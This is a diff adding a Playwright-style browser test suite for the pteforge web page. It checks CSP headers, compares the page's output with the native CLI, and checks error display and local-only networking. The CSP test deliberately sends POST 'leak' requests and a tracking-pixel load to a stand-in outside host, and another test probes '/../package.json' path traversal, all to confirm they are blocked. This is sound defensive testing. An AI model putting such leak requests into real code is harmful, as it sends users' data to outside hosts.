@@ -1,0 +1,254 @@
+// The pteforge web page in Chromium (issue 7): served by scripts/serve.mjs on
+// 127.0.0.1 with the CSP header; every program fixture's summary against the
+// native CLI; a .pt2 against its program JSON; the .pte viewer's decoded JSON
+// byte-identical to `pteforge decode --json`; errors shown with their location;
+// conversion (when the package has it) byte-identical to the native .pte;
+// the CSP blocking requests elsewhere, from the page and from the worker;
+// and no request leaving 127.0.0.1. Screenshots go to tests/browser/artifacts/.
+
+import assert from 'node:assert/strict';
+import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, before, describe, test } from 'node:test';
+import { CSP } from '../../scripts/serve.mjs';
+import { ARTIFACTS, download, openPage, pick, repo, runCli, start, whenDone } from './helpers.mjs';
+
+const CORPUS = repo('tests', 'fixtures', 'corpus');
+const cases = readdirSync(CORPUS, { withFileTypes: true }).filter((d) => d.isDirectory()).map((d) => d.name).sort();
+const programJsons = cases.flatMap((c) => readdirSync(join(CORPUS, c, 'json', 'models')).filter((f) => f.endsWith('.json')).map((f) => join(CORPUS, c, 'json', 'models', f)));
+const archives = cases.flatMap((c) => readdirSync(join(CORPUS, c)).filter((f) => f.endsWith('.pt2')).map((f) => join(CORPUS, c, f)));
+const ptes = readdirSync(repo('tests', 'data', 'reference', 'pte')).filter((f) => f.endsWith('.pte')).map((f) => repo('tests', 'data', 'reference', 'pte', f));
+
+/** What the page shows of a program summary, read from the DOM. */
+function readSummary(page) {
+  return page.evaluate(() => {
+    const rows = (el) => el ? [...el.querySelectorAll('tbody tr')].map((tr) => [...tr.children].map((td) => td.textContent)) : [];
+    return {
+      file: document.querySelector('[data-testid=file-info]').textContent,
+      methods: [...document.querySelectorAll('#summary .method')].map((m) => ({
+        name: m.dataset.method,
+        inputs: rows(m.querySelector('[data-testid=inputs]')),
+        outputs: rows(m.querySelector('[data-testid=outputs]')),
+        ops: rows(m.querySelector('[data-testid=ops]')),
+        state: rows(m.querySelector('[data-testid=state]')).map((r) => r.slice(0, 2)),
+        modules: [...m.querySelectorAll('[data-testid=modules] li')].map((li) => li.querySelector('code').textContent),
+        warnings: [...m.querySelectorAll('[data-testid=warnings] li')].map((li) => li.textContent),
+      })),
+    };
+  });
+}
+
+/** The same view computed from `pteforge inspect --json`. */
+function expectedSummary(json) {
+  const io = (list) => list.map((x) => [x.name, x.kind, x.target ?? '', x.dtype ?? x.type ?? '', x.shape ? `[${x.shape.join(', ')}]` : '']);
+  return json.methods.map((m) => ({
+    name: m.name,
+    inputs: io(m.inputs),
+    outputs: io(m.outputs),
+    ops: m.ops.map((o) => [o.target, String(o.count)]),
+    state: [['parameters', String(m.state.parameters.count)], ['buffers', String(m.state.buffers.count)], ['constants', String(m.state.constants.count)], ['custom objects', String(m.state.custom_objects)]],
+    modules: m.modules.map((x) => (x.path === '' ? '(root)' : x.path)),
+    warningCount: m.warnings.length,
+  }));
+}
+
+describe('pteforge web page', () => {
+  let env;
+  let workerResponse;
+
+  before(async () => {
+    env = await start();
+    workerResponse = await openPage(env);
+  });
+
+  after(async () => {
+    await env?.close();
+  });
+
+  test('every response carries the CSP header, the worker included; .wasm is application/wasm', async () => {
+    assert.equal(CSP, "default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; connect-src 'self'");
+    assert.equal(workerResponse.status(), 200);
+    assert.equal(workerResponse.headers()['content-security-policy'], CSP);
+    assert.match(workerResponse.headers()['content-type'], /^text\/javascript/);
+    for (const path of ['/', '/app.mjs', '/style.css', '/pteforge/dist/pteforge.wasm', '/pteforge/dist/index.browser.mjs', '/no-such-file', '/../package.json']) {
+      const r = await fetch(new URL(path, env.url));
+      assert.equal(r.headers.get('content-security-policy'), CSP, path);
+      if (path.endsWith('.wasm')) assert.equal(r.headers.get('content-type'), 'application/wasm');
+      if (path.startsWith('/no') || path.startsWith('/..')) assert.equal(r.status, 404, path);
+      await r.arrayBuffer();
+    }
+    // The module ran in the worker: the page says which build it is.
+    assert.match(await env.page.textContent('#version'), /^pteforge \S+ \(Emscripten 3\.1\.6\)\.$/);
+    // No console errors or warnings (a wrong .wasm MIME type would warn, E12).
+    assert.deepEqual(env.consoleMessages.filter((m) => /^(error|warning|pageerror)/.test(m)), []);
+  });
+
+  test('the summary of every program JSON is what `pteforge inspect --json` says', async () => {
+    assert.ok(programJsons.length >= 10);
+    for (const file of programJsons) {
+      const cli = runCli(['inspect', '--json', file]);
+      assert.equal(cli.status, 0, `${file}: ${cli.stderr}`);
+      const expected = expectedSummary(JSON.parse(cli.stdout));
+      await pick(env.page, file);
+      assert.equal(await env.page.isHidden('#error'), true, `${file}: ${await env.page.textContent('#error')}`);
+      const shown = await readSummary(env.page);
+      assert.match(shown.file, new RegExp(`^${file.split('/').pop().replace('.', '\\.')} — [\\d,]+ B`));
+      assert.equal(shown.methods.length, expected.length, file);
+      shown.methods.forEach((m, i) => {
+        const { warningCount, ...want } = expected[i];
+        const { warnings, ...got } = m;
+        assert.deepEqual(got, want, file);
+        assert.equal(warnings.length, warningCount, file);
+      });
+    }
+  });
+
+  test('a .pt2 shows the same program as its program JSON; a screenshot of the page', async () => {
+    assert.ok(archives.length >= 10);
+    for (const archive of archives) {
+      const dir = join(archive, '..', 'json', 'models');
+      const models = readdirSync(dir);
+      if (models.length !== 1 || !archive.includes(`/${archive.split('/').at(-2)}.pt2`)) continue; // one-model archives
+      await pick(env.page, join(dir, models[0]));
+      const fromJson = (await readSummary(env.page)).methods;
+      await pick(env.page, archive);
+      assert.equal(await env.page.isHidden('#error'), true, `${archive}: ${await env.page.textContent('#error')}`);
+      const fromArchive = (await readSummary(env.page)).methods;
+      assert.deepEqual(fromArchive, fromJson, archive);
+    }
+    await pick(env.page, join(CORPUS, 'modules_preserved', 'modules_preserved.pt2'));
+    const modules = await env.page.$$eval('#summary [data-testid=modules] li code', (els) => els.map((e) => e.textContent));
+    assert.deepEqual(modules, ['(root)', '0', '0.0', '0.1', '1', '1.0', '1.1']);
+    assert.equal(await env.page.isVisible('#options'), true);
+    assert.equal(await env.page.isVisible('#swap-drop'), true);
+    await env.page.screenshot({ path: join(ARTIFACTS, 'page-program.png'), fullPage: true });
+  });
+
+  test('the .pte viewer: decoded JSON byte-identical to `pteforge decode --json`', async () => {
+    assert.ok(ptes.length >= 4);
+    for (const pte of ptes) {
+      const cli = runCli(['decode', '--json', pte]);
+      assert.equal(cli.status, 0, `${pte}: ${cli.stderr}`);
+      const want = JSON.parse(cli.stdout);
+      await pick(env.page, pte);
+      assert.equal(await env.page.isHidden('#error'), true, `${pte}: ${await env.page.textContent('#error')}`);
+      assert.equal(await env.page.isHidden('#summary'), true);
+      const bytes = await download(env.page, '[data-testid=download-decoded]');
+      assert.ok(bytes.equals(cli.stdout), `${pte}: decoded JSON differs from the CLI's`);
+      const shown = await env.page.evaluate(() => [...document.querySelectorAll('#decoded .plan')].map((p) => ({
+        name: p.dataset.plan,
+        operators: [...p.querySelectorAll('[data-testid=pte-operators] tbody tr')].map((tr) => tr.children[1].textContent + '.' + tr.children[2].textContent),
+        instructions: [...p.querySelectorAll('[data-testid=pte-instructions] li')].map((li) => li.textContent),
+        values: p.querySelectorAll('[data-testid=pte-values] tbody tr').length,
+      })));
+      assert.deepEqual(shown, want.execution_plan.map((plan) => ({
+        name: plan.name,
+        operators: plan.operators.map((o) => `${o.name}.${o.overload}`),
+        instructions: plan.chains.flatMap((c) => c.instructions.map((i) => i.text ?? `${i.type} ${JSON.stringify(i)}`)),
+        values: plan.values.length,
+      })), pte);
+      assert.match(await env.page.textContent('[data-testid=pte-info]'), new RegExp(`^${pte.split('/').pop().replace('.', '\\.')} — [\\d,]+ B.*identifier ${want.file.identifier}`));
+    }
+    await pick(env.page, repo('tests', 'data', 'reference', 'pte', 'add.pte'));
+    await env.page.screenshot({ path: join(ARTIFACTS, 'page-pte.png'), fullPage: true });
+  });
+
+  test('errors appear in the page with their code and location, as the CLI reports them', async () => {
+    const bad = join(tmpdir(), `pteforge-web-bad-${process.pid}.json`);
+    writeFileSync(bad, '{\n  "schema_version":\n}\n');
+    const cli = runCli(['inspect', '--json', bad]);
+    assert.notEqual(cli.status, 0);
+    const [code, message] = cli.stderr.split('\n')[0].match(/^([A-Z_]+): (.*?) \(/).slice(1);
+    await pick(env.page, bad);
+    assert.equal(await env.page.isVisible('#error'), true);
+    assert.equal(await env.page.isHidden('#summary'), true);
+    assert.equal(await env.page.textContent('[data-testid=error-code]'), code);
+    assert.equal(await env.page.textContent('[data-testid=error-message]'), message);
+    const offset = Number(cli.stderr.match(/byte_offset=(\d+)/)[1]);
+    assert.equal(await env.page.textContent('[data-testid=error-where] dd[data-key=byte_offset]'), String(offset));
+    assert.equal(await env.page.textContent('[data-testid=error-where] dd[data-key=entry]'), bad.split('/').pop());
+    // The line of the input around the offset, with a caret under it.
+    const context = await env.page.textContent('[data-testid=error-context]');
+    const [line, caret] = context.split('\n');
+    assert.equal(line, '}');
+    assert.equal(caret, '^');
+    assert.match(await env.page.textContent('#error figcaption'), /line 3, column 1 \(byte 22\)/);
+    await env.page.screenshot({ path: join(ARTIFACTS, 'page-error.png'), fullPage: true });
+
+    // A truncated .pte: PTE_INVALID, shown; then the page still works.
+    const trunc = join(tmpdir(), `pteforge-web-trunc-${process.pid}.pte`);
+    writeFileSync(trunc, readFileSync(repo('tests', 'data', 'reference', 'pte', 'add.pte')).subarray(0, 100));
+    const cliPte = runCli(['decode', '--json', trunc]);
+    await pick(env.page, trunc);
+    assert.equal(await env.page.textContent('[data-testid=error-code]'), cliPte.stderr.split(':')[0]);
+    assert.equal(await env.page.textContent('[data-testid=error-code]'), 'PTE_INVALID');
+    await pick(env.page, repo('tests', 'data', 'reference', 'pte', 'add.pte'));
+    assert.equal(await env.page.isHidden('#error'), true);
+    assert.equal(await env.page.isVisible('#decoded'), true);
+  });
+
+  test('convert: the downloaded .pte is byte-identical to the native CLI output', async (t) => {
+    const features = await env.page.evaluate(async () => {
+      const m = await import('./pteforge/dist/index.browser.mjs');
+      const pf = await m.createPteforge();
+      const f = pf.info.features;
+      await pf.close();
+      return f;
+    });
+    const canConvert = features.includes('convert');
+    assert.equal(await env.page.isDisabled('#convert'), !canConvert);
+    if (!canConvert) {
+      await pick(env.page, programJsons[0]);
+      assert.match(await env.page.textContent('#convert-note'), /cannot convert yet/);
+      t.skip(`the package has no convert yet (features: ${features.join(', ')})`);
+      return;
+    }
+    for (const file of [...programJsons, ...archives]) {
+      const out = join(tmpdir(), `pteforge-web-${process.pid}.pte`);
+      const cli = runCli(['convert', file, '-o', out]);
+      if (cli.status !== 0) continue; // not convertible yet natively either
+      await pick(env.page, file);
+      await whenDone(env.page, () => env.page.click('#convert'));
+      assert.equal(await env.page.isHidden('#error'), true, `${file}: ${await env.page.textContent('#error')}`);
+      const pte = await download(env.page, '[data-testid=download-pte]');
+      assert.ok(pte.equals(readFileSync(out)), `${file}: .pte differs from the native one`);
+      assert.ok((await env.page.$$('[data-testid=pass-report] tbody tr')).length > 0);
+      assert.equal(await env.page.isVisible('#decoded'), true);
+    }
+    await env.page.screenshot({ path: join(ARTIFACTS, 'page-converted.png'), fullPage: true });
+  });
+
+  test('the CSP stops the page and its worker from sending data elsewhere', async () => {
+    const fromPage = await env.page.evaluate(() => fetch('http://192.0.2.1/leak', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'blocked'));
+    assert.equal(fromPage, 'blocked');
+    const workers = env.page.workers();
+    assert.ok(workers.some((w) => new URL(w.url()).pathname === '/worker.mjs'), workers.map((w) => w.url()).join());
+    const w = workers.find((x) => new URL(x.url()).pathname === '/worker.mjs');
+    const fromWorker = await w.evaluate(() => fetch('http://192.0.2.1/leak', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'blocked'));
+    assert.equal(fromWorker, 'blocked');
+    const img = await env.page.evaluate(() => new Promise((resolve) => {
+      const i = new Image();
+      i.onload = () => resolve('loaded');
+      i.onerror = () => resolve('blocked');
+      i.src = 'http://192.0.2.1/pixel.png';
+    }));
+    assert.equal(img, 'blocked');
+  });
+
+  test('no request left 127.0.0.1', () => {
+    assert.ok(env.requests.length > 5);
+    const origin = new URL(env.url).origin;
+    const local = (u) => u.startsWith(origin + '/') || u.startsWith('blob:' + origin + '/') || u.startsWith('data:');
+    // Every request reaching the network layer (page and worker alike: the
+    // worker's .wasm fetch is seen there) was for this server ...
+    assert.ok(env.routed.includes(new URL('/pteforge/dist/pteforge.wasm', origin).href), 'the route sees worker requests');
+    assert.deepEqual(env.routed.filter((u) => !local(u)), []);
+    // ... and the ones the test provoked elsewhere were stopped by the CSP.
+    const elsewhere = env.requests.filter((u) => !local(u));
+    assert.deepEqual(elsewhere, ['http://192.0.2.1/pixel.png']);
+    assert.deepEqual(env.failed.filter((f) => !local(f.url)), [{ url: 'http://192.0.2.1/pixel.png', error: 'csp' }]);
+    assert.ok(env.serverRequests.includes('/worker.mjs'));
+    assert.ok(env.serverRequests.includes('/pteforge/dist/pteforge.wasm'));
+  });
+});
